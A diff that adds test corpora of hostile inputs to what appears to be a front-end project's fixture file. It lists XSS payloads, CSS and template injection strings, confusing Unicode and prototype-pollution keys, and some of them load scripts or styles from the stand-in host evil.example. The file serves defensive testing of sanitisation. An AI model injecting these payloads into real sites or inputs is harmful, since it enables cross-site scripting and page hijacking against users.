@@ -58,3 +58,117 @@ export const HOSTILE_URLS: readonly string[] = [
   'ws://evil.example',
   'https://',
 ];
+
+/** Markup and script in every dress: OWASP's and DOMPurify's classes of attack, one of a kind. */
+const XSS: readonly string[] = [
+  ...HOSTILE_TEXTS.filter((text) => text.includes('<') || text.includes('&') || text.includes("'")),
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>window.hit=1</scr</script>ipt>',
+  '<img src=`x` onerror=window.hit=1>',
+  '<img\tsrc=x\nonerror\r=window.hit=1>',
+  '<img/src="x"/onerror=window.hit=1>',
+  '<img src=x onerror=&#119;indow.hit=1>',
+  '<body onload=window.hit=1>',
+  '<input autofocus onfocus=window.hit=1>',
+  '<details open ontoggle=window.hit=1>',
+  '<marquee onstart=window.hit=1>',
+  '<video><source onerror=window.hit=1></video>',
+  '<audio src onerror=window.hit=1>',
+  '<object data="javascript:window.hit=1"></object>',
+  '<embed src="javascript:window.hit=1">',
+  '<a href="javascript:window.hit=1">x</a>',
+  '<form action="javascript:window.hit=1"><button>x',
+  '<button formaction="javascript:window.hit=1">x</button>',
+  '<base href="//evil.example/">',
+  '<meta http-equiv=refresh content="0;url=javascript:window.hit=1">',
+  '<link rel=stylesheet href="//evil.example/x.css">',
+  '<style>@import "//evil.example/x.css"</style>',
+  '<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>',
+  '<svg><a xlink:href="javascript:window.hit=1"><text>x',
+  "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='window.hit=1'/>#x\"/>",
+  '<svg><foreignObject><iframe src="javascript:window.hit=1">',
+  '<math href="javascript:window.hit=1">x</math>',
+  '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
+  '<p id=getElementById name=body>',
+  '<!--?lit$0$--><img src=x onerror=window.hit=1>',
+  '<?lit$123$?>',
+  '\uff1cscript\uff1ewindow.hit=1\uff1c/script\uff1e',
+];
+
+/** Style that loads, hides or covers something where it is taken for CSS. */
+const CSS_INJECTION: readonly string[] = [
+  'red;background:url(//evil.example/x)',
+  'red}*{display:none',
+  'red;position:fixed;inset:0;z-index:9999',
+  'url("//evil.example/x.png")',
+  "image-set('//evil.example/x.png' 1x)",
+  '@import "//evil.example/x.css";',
+  '</style><script>window.hit=1</script>',
+  '\\72 ed;\\62 ackground:url(//evil.example/x)',
+  'var(--widget-primary-9);display:none',
+  'expression(window.hit=1)',
+  '-moz-binding:url(//evil.example/x.xml#x)',
+  '/**/red/**/;}body{display:none}',
+  'calc(1px * 99999999999)',
+  '100vw',
+  'behavior:url(x.htc)',
+];
+
+/** Holes and expressions of template languages, ours and others'. */
+const TEMPLATES: readonly string[] = [
+  '{{constructor.constructor("window.hit=1")()}}',
+  '{{label}} {{name | currency}} {{.}} {{$index}}',
+  '{{__proto__.x}}',
+  '{form.password}{url.token?}{page.x}',
+  '${window.hit=1}',
+  '#{window.hit=1}',
+  '<%= window.hit=1 %>',
+  '{% include "x" %}',
+  '[[window.hit=1]]',
+  '{{{html}}}',
+  '%s %d %o %c',
+  '$& $1 $` {0} {count}',
+  '\\{{x}} }} {{',
+];
+
+/** Text that breaks lines, order, letters or measures. */
+const UNICODE: readonly string[] = [
+  '\u202egnp.exe\u202c',
+  '\u2066abc\u2069 \u2067\u05d0\u05d1\u2069',
+  '\u0645\u0631\u062d\u0628\u0627 hello \u0645\u0631\u062d\u0628\u0627',
+  '\ud800 alone \udfff',
+  'a\u0000b\u0007\u001b[31m',
+  '\u200b\u200d\ufeff',
+  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d',
+  'e' + '\u0301'.repeat(400),
+  '\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66\ud83c\udff3\ufe0f\u200d\ud83c\udf08',
+  '\u{e0041}\u{e0042}\u{e007f}',
+  '\u2028\u2029\u0085',
+  '\u0130\u0131\u017f\u00df\ufb01',
+  '\ufffd\ufffe\uffff',
+  'x'.repeat(10_000),
+  'word '.repeat(1000),
+  '\u4e2d'.repeat(2000),
+  '\n'.repeat(200) + 'end',
+];
+
+/** Names that a prototype has. */
+const PROTOTYPE: readonly string[] = [
+  '__proto__',
+  'constructor',
+  'prototype',
+  'hasOwnProperty',
+  'toString',
+  'valueOf',
+  '__proto__.polluted',
+];
+
+/** Attacks by kind: as data each of them is text and nothing else. */
+export const HOSTILE_CORPORA = {
+  xss: XSS,
+  url: HOSTILE_URLS,
+  css: CSS_INJECTION,
+  template: TEMPLATES,
+  unicode: UNICODE,
+  prototype: PROTOTYPE,
+} as const;
